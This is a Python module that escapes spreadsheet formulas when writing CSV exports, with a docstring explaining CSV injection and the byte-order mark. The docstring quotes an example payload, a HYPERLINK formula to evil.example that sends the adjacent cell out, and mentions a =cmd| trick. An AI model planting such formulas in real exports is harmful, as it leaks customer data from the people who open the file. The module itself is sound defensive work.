"""CSV files a spreadsheet opens as data, never as formulas.

The console's CSV files carry text that others wrote: a customer's name and e-mail address (typed at the shop's
sign-up, arriving by webhook), reasons and order ids (from the shop's API calls), customer ids. Excel, LibreOffice
and Google Sheets run a cell starting with `=`, `+`, `-` or `@` (or a tab or carriage return before one) as a
formula: `=HYPERLINK("https://evil.example/?"&B2, "Details")` in a name sends the row next to it away when the
merchant clicks, and `=cmd|…` used to start programs. Such a cell is written with a leading `'`, which the
spreadsheet reads as "this is text" (OWASP's advice for CSV injection). Amounts such as `-5.00` stay numbers.

Each file starts with a byte-order mark: Excel opens a UTF-8 file without one in the system's code page ("Zoë"
reads "ZoÃ«"); other spreadsheets and `encoding="utf-8-sig"` read past it.
"""

from __future__ import annotations

import csv
import re
from collections.abc import Iterable
from typing import Any

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
NUMBER = re.compile(r"[+-]?[0-9]+(?:\.[0-9]+)?")
BYTE_ORDER_MARK = "\ufeff"


def cell(value: Any) -> Any:
    """The value as a CSV cell: text a spreadsheet would run as a formula is marked as text."""
    if isinstance(value, str) and value.startswith(FORMULA_START) and not NUMBER.fullmatch(value):
        return "'" + value
    return value


class Writer:
    """`csv.writer` whose every cell goes through `cell`."""

    def __init__(self, buffer) -> None:
        buffer.write(BYTE_ORDER_MARK)
        self._writer = csv.writer(buffer, lineterminator="\r\n")

    def writerow(self, row: Iterable[Any]) -> None:
        self._writer.writerow([cell(value) for value in row])
